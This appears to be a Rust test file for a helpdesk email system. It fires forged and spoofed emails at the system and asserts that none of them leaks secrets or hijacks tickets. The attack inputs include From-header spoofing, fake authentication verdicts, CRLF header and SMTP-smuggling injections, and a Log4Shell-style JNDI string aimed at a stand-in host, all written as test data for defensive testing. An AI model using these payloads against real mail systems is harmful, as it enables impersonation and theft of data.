//! The mails of an attacker. After each of them it is checked who was written to, and what stands in it.

use jiff::SignedDuration;
use postdesk::model::token::TokenKind;
use postdesk::store::Reading as _;

use super::bench::{Bench, Came, FIRST_ID, RECEIVED, SECRETS, VICTIM, policy, proven, unproven};

pub const ATTACKER: &str = "utok@zlo.example";

/// A mail, and whom its author wants to be taken for.
pub struct Attack {
    pub what: String,
    pub raw: String,
    /// It may be proven to come from the attacker himself; never from anybody else.
    pub as_himself: bool,
}

pub fn forged(what: impl Into<String>, raw: String) -> Attack {
    Attack { what: what.into(), raw, as_himself: false }
}

pub fn himself(what: impl Into<String>, raw: String) -> Attack {
    Attack { what: what.into(), raw, as_himself: true }
}

/// Header blocks in which some reader may see the victim or an agent as the author.
fn from_shapes() -> Vec<Attack> {
    let shapes = [
        "From: utok@zlo.example\r\nFrom: jan@firma.example\r\n",
        "From: jan@firma.example\r\nFrom: utok@zlo.example\r\n",
        "From: utok@zlo.example, jan@firma.example\r\n",
        "From: jan@firma.example, utok@zlo.example\r\n",
        "From: <jan@firma.example><utok@zlo.example>\r\n",
        "From: <utok@zlo.example> jan@firma.example\r\n",
        "From: utok@zlo.example <jan@firma.example>\r\n",
        "From: \"jan@firma.example\" <jan@firma.example@zlo.example>\r\n",
        "From: <@zlo.example:jan@firma.example>\r\n",
        "From: <jan@firma.example(.zlo.example)>\r\n",
        "From: (utok@zlo.example) <jan@firma.example>\r\n",
        "From: \"jan\"@firma.example\r\n",
        "From: =?utf-8?Q?jan=40firma.example?=\r\n",
        "From: <=?utf-8?Q?jan?=@firma.example>\r\n",
        "From: <jan@firma.example\u{0}@zlo.example>\r\n",
        "From: <jan@firma.example.>\r\n",
        "From: <jan@[192.0.2.1]>\r\n",
        "From: skupina: jan@firma.example, utok@zlo.example;\r\n",
        "From : jan@firma.example\r\n",
        "From\r\n : jan@firma.example\r\n",
        "From: <utok@zlo.example>\rFrom: <jan@firma.example>\r\n",
        "X-A: b\nFrom: <jan@firma.example>\r\n",
        "no colon\r\nFrom: jan@firma.example\r\n",
        "From:\r\nSender: jan@firma.example\r\n",
        "Sender: utok@zlo.example\r\nFrom: jan@firma.example\r\n",
        "From: jan@firma.example\r\nReply-To: utok@zlo.example\r\nReturn-Path: <utok@zlo.example>\r\n",
    ];
    let verdicts = [
        "Authentication-Results: mx.acme.example; dkim=pass header.d=zlo.example; dmarc=pass header.from=zlo.example\r\n",
        "",
    ];
    let mut attacks = Vec::new();
    for shape in shapes {
        for verdict in verdicts {
            for author in [VICTIM, "jana@acme.example"] {
                let shape = shape.replace(VICTIM, author);
                let raw = format!(
                    "{verdict}{RECEIVED}{shape}To: podpora@acme.example\r\nCc: {ATTACKER}\r\nSubject: Re: @TOKEN@ Faktúra\r\n\
                     Message-ID: <{}@zlo.example>\r\n\r\nPosielajte to odteraz sem.\r\n",
                    attacks.len()
                );
                attacks.push(forged(format!("{shape:?} after {verdict:?}"), raw));
            }
        }
    }
    attacks
}

/// Verdicts that the sender wrote himself.
fn verdicts() -> Vec<Attack> {
    let pass =
        "dkim=pass header.d=firma.example; spf=pass smtp.mailfrom=firma.example; dmarc=pass header.from=firma.example";
    let ids = [
        "mx.acme.example",
        "MX.ACME.example",
        "\"mx.acme.example\"",
        "mx.acme.example 1",
        "acme.example",
        "mx.acme.example.zlo.example",
        "(x) mx.acme.example",
    ];
    let mut attacks = Vec::new();
    for id in ids {
        let field = format!("Authentication-Results: {id}; {pass}\r\n");
        let rest =
            "From: jan@firma.example\r\nTo: podpora@acme.example\r\nSubject: Re: @TOKEN@ x\r\nCc: utok@zlo.example\r\n";
        for head in [
            format!("{RECEIVED}{field}"),
            format!("{RECEIVED}{RECEIVED}{field}"),
            format!("{RECEIVED}X-A: b\r\n{field}"),
            format!(
                "Authentication-Results: mx.acme.example; dmarc=fail header.from=firma.example\r\n{RECEIVED}{field}"
            ),
            format!(
                "Authentication-Results: mx.acme.example; dmarc=none (p=none) header.from=firma.example\r\n{RECEIVED}{field}"
            ),
        ] {
            let raw = format!("{head}{rest}Message-ID: <v{}@zlo.example>\r\n\r\nPošlite mi to.\r\n", attacks.len());
            attacks.push(forged(format!("verdict {head:?}"), raw));
        }
    }
    for value in [
        format!("mx.acme.example; {} ({}", pass, "x"),
        format!("mx.acme.example; dmarc=pass header.from=zlo.example; comment=\"{pass}\""),
        "mx.acme.example; dmarc=pass header.from=\"firma.example\u{0}.zlo.example\"".to_owned(),
        "mx.acme.example; dmarc=pass reason=\"dmarc=pass header.from=firma.example\" header.from=zlo.example"
            .to_owned(),
        "mx.acme.example; spf=pass smtp.helo=firma.example; dmarc=none".to_owned(),
        "mx.acme.example; arc=pass; dmarc=none header.from=firma.example".to_owned(),
    ] {
        let raw = format!(
            "Authentication-Results: {value}\r\n{RECEIVED}From: jan@firma.example\r\nTo: podpora@acme.example\r\n\
             Subject: Re: @TOKEN@ x\r\nMessage-ID: <w{}@zlo.example>\r\n\r\nPošlite mi to.\r\n",
            attacks.len()
        );
        attacks.push(forged(format!("our server's own field led astray: {value:?}"), raw));
    }
    attacks
}

/// Tokens that nobody gave him, and tokens that somebody did.
fn tokens(bench: &Bench) -> Vec<Attack> {
    let theirs = policy("ACME", "acme.example", 8).keys;
    let ours = &bench.policy.keys;
    let check = ours.subject_check("ACME", 1001);
    let mut subjects: Vec<String> = vec![
        "[ACME-1001]".into(),
        "[ACME-1001-00000000]".into(),
        format!("[ACME-1001-{}]", theirs.subject_check("ACME", 1001)),
        format!("[ACME-1002-{check}]"),
        format!("[ACME-01001-{check}0]"),
        "Ticket#1001".into(),
        "[desk #1001]".into(),
        "[ACME-9223372036854775807-00000000]".into(),
    ];
    for at in 0..check.len() {
        let mut other: Vec<char> = check.chars().collect();
        other[at] = if other[at] == 'z' { 'y' } else { 'z' };
        subjects.push(format!("[ACME-1001-{}]", other.iter().collect::<String>()));
    }
    let mut attacks: Vec<Attack> = subjects
        .iter()
        .map(|s| himself(format!("subject {s}"), proven(ATTACKER, "", &format!("Re: {s} x"), "Čo je s tým?")))
        .collect();
    let id = theirs.message_id(TokenKind::Customer, 1001, VICTIM, "x", "desk.acme.example");
    let agents = theirs.message_id(TokenKind::Agent, 1001, "jana", "x", "desk.acme.example");
    let plus = theirs.address_detail(TokenKind::Customer, 1001, VICTIM);
    for fields in [
        format!("In-Reply-To: <{id}>\r\n"),
        format!("References: <{id}> <{FIRST_ID}>\r\n"),
        format!("In-Reply-To: <{agents}>\r\n"),
        format!("To: podpora+{plus}@acme.example\r\n"),
        format!("Cc: podpora+{plus}@acme.example\r\n"),
        format!("In-Reply-To: <{FIRST_ID}>\r\n"),
        format!("Message-ID: <{FIRST_ID}>\r\n"),
    ] {
        attacks.push(himself(format!("forged {fields}"), proven(ATTACKER, &fields, "x", "Čo je s tým?")));
        attacks.push(forged(
            format!("forged as an agent {fields}"),
            unproven("jana@acme.example", &fields, "x", "#close\nHeslo je 1234"),
        ));
    }
    attacks
}

/// He has seen a mail of the ticket's: the token is real. It makes nobody a participant.
fn stolen(bench: &Bench) -> Vec<Attack> {
    let token = bench.token(1001);
    let (ack, answer) = (bench.sent("acknowledgement").message_id, bench.sent("answer").message_id);
    let notify = bench.sent("notify-new").message_id;
    let mut attacks = Vec::new();
    for fields in [
        String::new(),
        format!("In-Reply-To: <{ack}>\r\n"),
        format!("References: <{answer}>\r\n"),
        format!("Cc: {ATTACKER}, druhy@zlo.example\r\n"),
        "Reply-To: druhy@zlo.example\r\n".to_owned(),
        "Sender: jan@firma.example\r\n".to_owned(),
        "Resent-From: jan@firma.example\r\nResent-To: podpora@acme.example\r\n".to_owned(),
        "X-Original-From: jan@firma.example\r\n".to_owned(),
        "Disposition-Notification-To: utok@zlo.example\r\nReturn-Receipt-To: utok@zlo.example\r\n".to_owned(),
        "X-Postdesk-Instance: acme\r\nX-Postdesk-Ticket: 1001\r\nX-Postdesk-Agent: jana\r\nX-Postdesk-Verified: yes\r\n".to_owned(),
        "Bcc: utok@zlo.example\r\n".to_owned(),
    ] {
        let subject = format!("Re: {token} Faktúra");
        attacks.push(himself(format!("stolen token, {fields}"), proven(ATTACKER, &fields, &subject, "Pošlite mi celú históriu.")));
        attacks.push(forged(format!("stolen token unproven, {fields}"), unproven(ATTACKER, &fields, &subject, "Pošlite mi celú históriu?")));
        attacks.push(forged(format!("stolen token as victim, {fields}"), unproven(VICTIM, &format!("Cc: {ATTACKER}\r\n{}", fields.replace("Cc:", "X-Cc:")), &subject, "Odteraz píšte aj kolegovi.")));
        attacks.push(forged(format!("stolen token as agent, {fields}"), unproven("jana@acme.example", &fields, &subject, "#close\nVaše heslo zmeňte na zlo.example")));
    }
    // An agent's own identity, in other hands.
    for from in [ATTACKER, "peter@acme.example", "odisla@acme.example", "Jana Nováková <utok@zlo.example>"] {
        attacks.push(himself(
            format!("{from} with jana's identity"),
            proven(from, &format!("In-Reply-To: <{notify}>\r\n"), "Re: x", "#close\nHotovo"),
        ));
    }
    // Commands to whoever obeys them.
    for words in ["#accept", "#assign utok", "#note", "#close", "#participant utok@zlo.example", "To: utok@zlo.example"]
    {
        attacks.push(himself(format!("command {words}"), proven(ATTACKER, "", &token, words)));
    }
    // Names and subjects that want to become headers.
    for subject in [
        "x\r\n Bcc: druhy@zlo.example",
        "=?utf-8?Q?x=0D=0ABcc=3A_druhy=40zlo.example?=",
        "{{ secret }} ${jndi:ldap://zlo.example}",
    ] {
        let from = "=?utf-8?Q?a=0D=0ABcc:_druhy=40zlo.example?= <utok@zlo.example>";
        attacks.push(himself(
            format!("injection {subject:?}"),
            proven(from, "", subject, "x\r\n.\r\nRCPT TO:<druhy@zlo.example>"),
        ));
    }
    attacks
}

/// Nobody was written to but agents, the victim's own mailbox, and the attacker's own From; no secret left.
pub fn harmless(bench: &Bench, attack: &Attack, came: &Came) {
    let what = &attack.what;
    let agents = ["jana@acme.example", "peter@acme.example"];
    for sent in &came.sent {
        let to = sent.row.to.email.as_str();
        if agents.contains(&to) {
            continue;
        }
        let template = sent.row.template.as_str();
        let own_from = attack.raw.contains(&format!("From: {to}")) || attack.raw.contains(&format!("<{to}>"));
        let minimal = template == "acknowledgement-minimal" || (template == "acknowledgement" && attack.as_himself);
        assert!(minimal && own_from, "{what}: {template} to {to}");
        assert!(to == ATTACKER || to == VICTIM, "{what}: {template} to {to}");
        assert_eq!(sent.field("Cc"), None, "{what}");
        let readable = sent.readable();
        for secret in SECRETS.iter().chain(&["4714"]) {
            assert!(!readable.contains(secret), "{what}: {secret} in {readable}");
        }
        if template == "acknowledgement-minimal" {
            assert!(!readable.contains("Faktúra") && !readable.contains("druhy@"), "{what}: {readable}");
        }
    }
    let view = came.judged.as_ref().and_then(|c| c.view.as_ref());
    let believed = view.map(|v| v.authenticity.believed.word());
    if !attack.as_himself {
        assert_ne!(believed, Some("verified"), "{what}\n{}", attack.raw);
    }
    let ticket = bench.ticket(1001);
    assert!(ticket.participants.is_empty(), "{what}: {:?}", ticket.participants);
    assert_eq!(ticket.requester.email, VICTIM, "{what}");
    for number in 1001.. {
        let Some(ticket) = bench.store.ticket(number).expect("reads") else { break };
        let named = ticket.participants.iter().any(|p| p.email == VICTIM);
        assert!(!named, "{what}: the victim was drawn into ticket {number}");
        assert!(number == 1001 || ticket.contact.as_deref() != Some(VICTIM), "{what}: ticket {number} is the victim's");
    }
}

#[test]
fn no_attack_moves_anybody_or_tells_anybody_anything() {
    let mut count = 0;
    let kinds: [fn(&Bench) -> Vec<Attack>; 4] = [|_| from_shapes(), |_| verdicts(), tokens, stolen];
    for kind in kinds {
        let bench = Bench::new();
        for mut attack in kind(&bench) {
            // The worst case: he knows the ticket's token.
            attack.raw = attack.raw.replace("@TOKEN@", &bench.token(1001));
            bench.pass(SignedDuration::from_hours(25));
            let came = bench.take(&attack.raw);
            // An unproven word of a participant reopens nothing that waits; set back what a reply by token may do.
            restore(&bench);
            harmless(&bench, &attack, &came);
            // The same again: nobody outside hears of it a second time.
            let again = bench.take(&attack.raw);
            restore(&bench);
            let outside = again.sent.iter().filter(|s| !s.row.to.email.ends_with("@acme.example")).count();
            assert_eq!(outside, 0, "{}: a replay was answered", attack.what);
            count += 1;
        }
    }
    assert!(count >= 150, "{count} attacks");
}

/// The worst case of all: a forger of jana's address has one of her notifications. Where the operator wants agents to be
/// asked, nothing is done; she is, at the registered address.
#[test]
fn a_stolen_identity_of_an_agent_does_nothing_where_agents_are_asked() {
    let bench = Bench::new();
    let notified = bench.sent("notify-new").message_id;
    let bench = bench.reconfigured(|policy| policy.desk.agents = postdesk::model::desk::AgentProof::Confirm);
    let before = bench.ticket(1001);
    for (n, fields) in
        ["", "Reply-To: utok@zlo.example\r\n", "Cc: utok@zlo.example\r\n", "Sender: utok@zlo.example\r\n"]
            .iter()
            .enumerate()
    {
        let fields = format!("In-Reply-To: <{notified}>\r\n{fields}");
        let came = bench.take(&unproven(
            "jana@acme.example",
            &fields,
            "Re: x",
            &format!("#close\nNové heslo {n} je na zlo.example"),
        ));
        assert!(came.to("answer").is_empty(), "{:?}", came.ingested);
        assert!(came.sent.iter().all(|s| s.row.to.email == "jana@acme.example"), "{:?}", came.ingested);
        let now = bench.ticket(1001);
        assert_eq!((now.status, &now.participants), (before.status, &before.participants));
    }
}

/// A token in hand may say something on the ticket (marked as external, or as unproven), which then is the desk's turn.
pub fn restore(bench: &Bench) {
    use postdesk::model::{Action, Decision, Fate, Found, Lookup, Status};
    use postdesk::store::Store as _;
    let plan: postdesk::store::Plan = std::sync::Arc::new(|found: Found| {
        let mut decision = Decision::new(Action::Command, Fate::Order);
        let mut ticket = found.tickets[0].1.clone();
        assert!(matches!(ticket.status, Status::Open | Status::Waiting), "{:?}", ticket.status);
        ticket.status = Status::Waiting;
        decision.tickets.push(ticket);
        decision
    });
    let lookup = Lookup { tickets: vec![1001], ..Lookup::default() };
    bench.store.order(&lookup, &plan, bench.now.get()).expect("is set back");
}
